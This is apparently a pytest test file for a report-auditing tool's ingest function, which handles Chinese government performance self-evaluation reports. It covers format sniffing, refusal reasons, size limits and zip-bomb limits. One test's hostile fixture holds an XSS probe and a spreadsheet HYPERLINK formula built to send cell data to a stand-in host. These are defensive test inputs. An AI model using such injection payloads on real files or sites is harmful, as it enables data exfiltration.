"""extract(): content decides the format, every refusal has a clear one-line reason."""

from __future__ import annotations

import dataclasses
import gzip
import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from reportaudit.errors import IngestError
from reportaudit.ingest import MAX_BYTES, Extracted, LimitExceeded, Limits, extract

FIXTURES = Path(__file__).resolve().parents[2] / "fixtures"
REPORT = "青川县财政局\n2023年度项目支出绩效自评报告\n一、部门基本情况\n正文。".encode()


def _reason(data: bytes, filename: str) -> str:
    with pytest.raises(IngestError) as err:
        extract(data, filename)
    assert err.value.filename == filename
    assert str(err.value) == f"{filename}: {err.value.reason}"
    assert "\n" not in str(err.value)
    return err.value.reason


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        ("empty.txt", "empty: no text"),
        ("blank.txt", "empty: no text"),
        ("fake.txt", "binary file, not a report"),
        ("corrupt.docx", "corrupt .docx file"),
        ("encrypted.pdf", "encrypted PDF"),
        ("sheet.xlsx", "unsupported file type: Excel workbook (.xlsx)"),
        # scanned.pdf, image.png: test_ingest_ocr.py; legacy.doc: test_ingest_legacy.py
        # (their reasons depend on whether the OCR extra / LibreOffice are installed).
    ],
)
def test_every_broken_fixture_is_refused_with_its_reason(name: str, reason: str) -> None:
    assert _reason((FIXTURES / "broken" / name).read_bytes(), name).startswith(reason)


@pytest.mark.parametrize("path", sorted((FIXTURES / "reports").iterdir()), ids=lambda p: p.name)
def test_every_report_fixture_imports_cleanly(path: Path) -> None:
    result = extract(path.read_bytes(), path.name)
    assert result.format == {".txt": "txt", ".docx": "docx", ".pdf": "pdf"}[path.suffix]
    assert result.ocr is None and result.converter is None and result.details() is None
    lines = result.text.split("\n")
    assert lines[0].endswith(("局", "人民政府"))
    assert "绩效自评" in lines[1]
    assert "六、偏离绩效目标的原因及下一步改进措施" in lines
    assert not any(line != line.rstrip() for line in lines)


def test_hostile_report_imports_with_payloads_defanged_only_where_invisible(
    fixture_bytes: Callable[[str], bytes],
) -> None:
    result = extract(fixture_bytes("hostile/hostile.txt"), "hostile.txt")
    assert "\x1b" not in result.text and "\u202e" not in result.text
    assert "自评工作按期完成。" in result.text
    assert "[bold]x[/bold]" in result.text  # markup is data; escaping is the display's job
    assert "<script>alert(1)</script>" in result.text
    assert '=HYPERLINK("http://x.invalid/?q="&A1,"点击查看")' in result.text.split("\n")


def test_size_limit_is_enforced_before_anything_else() -> None:
    with pytest.raises(
        IngestError, match=r"refused: 2,048 bytes, over the limit of 1,024 bytes per file"
    ):
        extract(b"\x00" * 2048, "big.txt", max_bytes=1024)  # too large wins over binary
    with pytest.raises(IngestError, match="bytes per file"):
        extract(REPORT, "r.txt", max_bytes=len(REPORT) - 1)
    assert extract(REPORT, "r.txt", max_bytes=len(REPORT)).text.startswith("青川县财政局")
    assert MAX_BYTES == 50 * 1024 * 1024


def test_default_limit_refuses_more_than_50_mb() -> None:
    data = b" " * (MAX_BYTES + 1)
    assert _reason(data, "huge.txt") == (
        "refused: 52,428,801 bytes, over the limit of 52,428,800 bytes per file "
        "(raise it with `import --max-bytes N` or $REPORTAUDIT_MAX_BYTES)"
    )


def test_result_is_frozen() -> None:
    result = extract(REPORT, "r.txt")
    assert isinstance(result, Extracted)
    with pytest.raises(dataclasses.FrozenInstanceError):
        name = "text"
        setattr(result, name, "x")


def test_content_beats_extension_with_a_warning(fixture_bytes: Callable[[str], bytes]) -> None:
    as_txt = extract(fixture_bytes("reports/yunling_health_2023.docx"), "report.txt")
    assert as_txt.format == "docx"
    assert "file is named .txt but its content is docx" in as_txt.warnings
    text_as_docx = extract(REPORT, "report.docx")
    assert text_as_docx.format == "txt"
    assert any("named .docx" in w for w in text_as_docx.warnings)
    no_ext = extract(fixture_bytes("reports/qingchuan_water_2022.pdf"), "report")
    assert no_ext.format == "pdf" and not any("named" in w for w in no_ext.warnings)


def test_binary_named_like_a_document_is_called_corrupt() -> None:
    junk = bytes(range(256)) * 4
    assert _reason(junk, "x.docx").startswith("corrupt .docx file: not a DOCX at all")
    assert _reason(junk, "x.pdf").startswith("corrupt .pdf file: not a PDF at all")


def _zip(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, content in members.items():
            zf.writestr(name, content)
    return buf.getvalue()


@pytest.mark.parametrize(
    ("data", "filename", "expected"),
    [
        (
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "Workbook".encode("utf-16-le"),
            "a.xls",
            "legacy Excel",
        ),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504), "x.bin", "legacy Office (OLE2)"),
        (b"RIFF\x00\x00\x00\x00WEBPVP8 " + bytes(40), "scan.webp", "image (WebP); save as PNG"),
        (b"MZ\x90\x00" + bytes(100), "setup.exe", "binary file, not a report (executable)"),
        (b"\x7fELF\x02\x01" + bytes(100), "a.out", "binary file, not a report (executable)"),
        (gzip.compress(REPORT, mtime=0), "r.txt.gz", "unsupported file type: gzip archive"),
        (_zip({"a.txt": REPORT}), "bundle.zip", "unsupported file type: zip archive"),
        (_zip({"ppt/presentation.xml": b"<p/>"}), "s.pptx", "PowerPoint (.pptx)"),
        (_zip({"content.xml": b"<c/>", "mimetype": b"x"}), "r.odt", "OpenDocument (.odt)"),
        (_zip({"a.txt": REPORT}), "r.docx", "corrupt .docx file: zip archive has no word/"),
        (b"PK\x03\x04" + bytes(60), "r.docx", "corrupt .docx file: damaged or truncated zip"),
    ],
)
def test_sniffing_names_what_the_file_is(data: bytes, filename: str, expected: str) -> None:
    assert expected in _reason(data, filename)


def test_pdf_header_mentioned_in_a_text_file_does_not_make_it_a_pdf() -> None:
    data = "说明：附件格式为%PDF-1.7\n".encode() + REPORT
    assert extract(data, "notes.txt").format == "txt"


def test_encrypted_office_document_is_named() -> None:
    data = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le") + bytes(64)
    assert _reason(data, "secret.docx").startswith("encrypted Office document")


def test_error_reasons_never_carry_controls_from_the_file() -> None:
    from reportaudit.ingest.clean import one_line

    assert one_line("bad member 'a\x1b[31m\nb\u202e'") == "bad member 'a b'"
    assert len(one_line("长" * 500)) == 160


def test_inflation_limit_refuses_zip_bombs(
    fixture_bytes: Callable[[str], bytes], monkeypatch: pytest.MonkeyPatch
) -> None:
    data = fixture_bytes("reports/yunling_health_2023.docx")
    with pytest.raises(LimitExceeded, match="zip bomb") as err:
        extract(data, "bomb.docx", limits=Limits(max_part_bytes=10_000))
    assert err.value.limit == "max_part_bytes" and "--max-part-bytes" in str(err.value)


def test_page_limit_refuses_absurd_pdfs(
    fixture_bytes: Callable[[str], bytes], monkeypatch: pytest.MonkeyPatch
) -> None:
    data = fixture_bytes("reports/qingchuan_water_2022.pdf")
    with pytest.raises(LimitExceeded) as err:
        extract(data, "long.pdf", limits=Limits(max_pages=1))
    assert err.value.reason == (
        "refused: 2 pages, over the limit of 1 pages per PDF "
        "(raise it with `import --max-pages N` or $REPORTAUDIT_MAX_PAGES)"
    )
